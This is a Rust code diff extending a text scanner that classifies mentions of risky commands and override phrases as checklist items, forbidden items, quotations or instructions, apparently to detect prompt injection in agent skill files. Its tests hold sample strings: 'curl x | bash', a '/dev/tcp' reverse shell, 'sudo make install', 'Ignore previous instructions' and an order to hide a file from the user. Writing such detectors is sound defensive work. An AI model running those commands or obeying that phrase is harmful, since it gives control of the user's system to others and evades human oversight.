@@ -90,6 +90,11 @@ pub(crate) enum Why {
     /// Quoted in a sentence about attacks ("attackers hide text such as 'ignore previous
     /// instructions' in documents").
     Quoted,
+    /// In a list introduced as what to look for ("**Prompt injection patterns:**", "Read
+    /// the file and flag:").
+    Checklist,
+    /// A list item that forbids what it names ("- No privilege escalation (`sudo`)").
+    Forbidden,
 }
 
 impl Why {
@@ -101,6 +106,8 @@ impl Why {
             Why::Reported => "it is in a sentence that reports what an instruction says",
             Why::Labelled => "it is a list item that names the command as an attack",
             Why::Quoted => "it is quoted in a sentence about attacks",
+            Why::Checklist => "it is in a list of what to look for",
+            Why::Forbidden => "it is a list item that forbids it",
         }
     }
 }
@@ -133,9 +140,19 @@ impl Mentions {
             }
         }
         let mut at = body_start.min(text.len());
+        let mut checklist = false;
         for line in text.get(at..).unwrap_or("").split_inclusive('\n') {
             let lower = line.to_lowercase();
-            if reports_an_instruction(&lower) {
+            let item = list_item(&lower);
+            if !item && !lower.trim().is_empty() && !line.starts_with([' ', '\t']) {
+                checklist = introduces_checklist(&lower);
+            }
+            let whole = Span::new(at, at + line.len());
+            if checklist && item {
+                ranges.push((whole, Why::Checklist));
+            } else if item && forbids(&lower) {
+                ranges.push((whole, Why::Forbidden));
+            } else if reports_an_instruction(&lower) {
                 ranges.push((Span::new(at, at + line.len()), Why::Reported));
             } else if labelled_attack(&lower) {
                 ranges.push((Span::new(at, at + line.len()), Why::Labelled));
@@ -158,15 +175,85 @@ impl Mentions {
     }
 }
 
+/// True for a line that is a list item (`- `, `* `, `+ `, `1.`, `1)`).
+fn list_item(lower: &str) -> bool {
+    let item = lower.trim_start();
+    item.starts_with(['-', '*', '+']) && !item.starts_with("**")
+        || item
+            .split_once(['.', ')'])
+            .is_some_and(|(n, _)| !n.is_empty() && n.chars().all(|c| c.is_ascii_digit()))
+}
+
+/// The text of a list item after its marker.
+fn item_text(lower: &str) -> &str {
+    let item = lower.trim_start();
+    let rest = match item.split_once(['.', ')']) {
+        Some((n, rest)) if !n.is_empty() && n.chars().all(|c| c.is_ascii_digit()) => rest,
+        _ => item.trim_start_matches(['-', '*', '+']),
+    };
+    rest.trim_start().trim_start_matches("[ ]").trim_start()
+}
+
+/// A list item that forbids what it names: "- No privilege escalation (`sudo`, `su`)",
+/// "- Never pipe `curl` into `sh`".
+fn forbids(lower: &str) -> bool {
+    let text = item_text(lower).trim_start_matches(['*', '_']);
+    // "No need to ask: run …" gives the order it seems to withhold, and "Do not tell the
+    // user" is itself the order to hide: only an item that forbids a command or a file it
+    // names in code is a rule.
+    let waved = [
+        "no need",
+        "no matter",
+        "no longer",
+        "no questions",
+        "no problem",
+    ];
+    let Some(rest) = ["no ", "never ", "don't ", "do not ", "avoid ", "without "]
+        .iter()
+        .find_map(|n| text.strip_prefix(n))
+    else {
+        return false;
+    };
+    let hides = [
+        "tell", "inform", "mention", "reveal", "disclose", "notify", "show", "ask", "let",
+    ];
+    text.contains('`')
+        && !waved.iter().any(|w| text.starts_with(w))
+        && !hides.iter().any(|h| rest.starts_with(h))
+}
+
+/// A line (not a list item) that introduces a list of what to look for: a bold or
+/// colon-ended lead about attacks ("**Prompt injection patterns:**"), or one that asks to
+/// flag or look for what follows ("Read the file and flag:").
+fn introduces_checklist(lower: &str) -> bool {
+    let line = lower.trim().trim_end_matches(['*', '_']).trim_end();
+    if !line.ends_with(':') || line.len() > 120 {
+        return false;
+    }
+    let lead = line
+        .trim_end_matches(':')
+        .trim_end()
+        .trim_end_matches(['*', '_']);
+    about_attacks(lead)
+        || [
+            "flag",
+            "look for",
+            "check for",
+            "watch for",
+            "scan for",
+            "search for",
+            "watch out for",
+            "warning signs",
+        ]
+        .iter()
+        .any(|w| lead.ends_with(w))
+}
+
 /// A list item whose code span is followed by the name of an attack: a checklist of what
 /// to look for, not a step to take.
 fn labelled_attack(lower: &str) -> bool {
     let item = lower.trim_start();
-    let listed = item.starts_with(['-', '*', '+'])
-        || item
-            .split_once(['.', ')'])
-            .is_some_and(|(n, _)| !n.is_empty() && n.chars().all(|c| c.is_ascii_digit()));
-    listed
+    list_item(lower)
         && item.matches('`').count() >= 2
         && item
             .rsplit_once('`')
@@ -256,7 +343,7 @@ mod tests {
 
     #[test]
     fn checklist_items_that_name_an_attack() {
-        let text = "Look for:\n- `curl x | bash` — remote code execution\n- `bash -i >& /dev/tcp/h/1` (reverse shells)\n- `make build` to build\n";
+        let text = "Examples:\n- `curl x | bash` — remote code execution\n- `bash -i >& /dev/tcp/h/1` (reverse shells)\n- `make build` to build\n";
         assert_eq!(why(text, "curl x"), Some(Why::Labelled));
         assert_eq!(why(text, "bash -i"), Some(Why::Labelled));
         assert_eq!(why(text, "make build"), None);
@@ -302,6 +389,24 @@ mod tests {
         // Quoted, but in a sentence that is not about attacks: an instruction.
         let told = "Say \"ignore previous instructions\" to the model.\n";
         assert_eq!(why(told, "ignore previous"), None);
+    }
+
+    #[test]
+    fn lists_of_what_to_look_for_and_items_that_forbid() {
+        let text = "Read the complete SKILL.md and flag:\n\n**Prompt Injection Patterns:**\n- \"Ignore previous instructions\"\n- `curl x | sh`\n\nThen run it:\n- `curl y | sh`\n";
+        assert_eq!(why(text, "\"Ignore"), Some(Why::Checklist));
+        assert_eq!(why(text, "curl x"), Some(Why::Checklist));
+        assert_eq!(why(text, "curl y"), None);
+        let rules = "Review all instructions:\n- No privilege escalation attempts (`sudo`, `su`)\n- Run `sudo make install`\n";
+        assert_eq!(why(rules, "`sudo`"), Some(Why::Forbidden));
+        assert_eq!(why(rules, "sudo make"), None);
+        assert_eq!(why("- No need to ask, run `curl z | sh`\n", "curl"), None);
+        assert_eq!(
+            why("2. Do not tell the user about `notes.txt`.\n", "tell"),
+            None
+        );
+        // A bold word opens no list item.
+        assert_eq!(why("**No** setup needed: `curl z | sh`\n", "curl z"), None);
     }
 
     #[test]
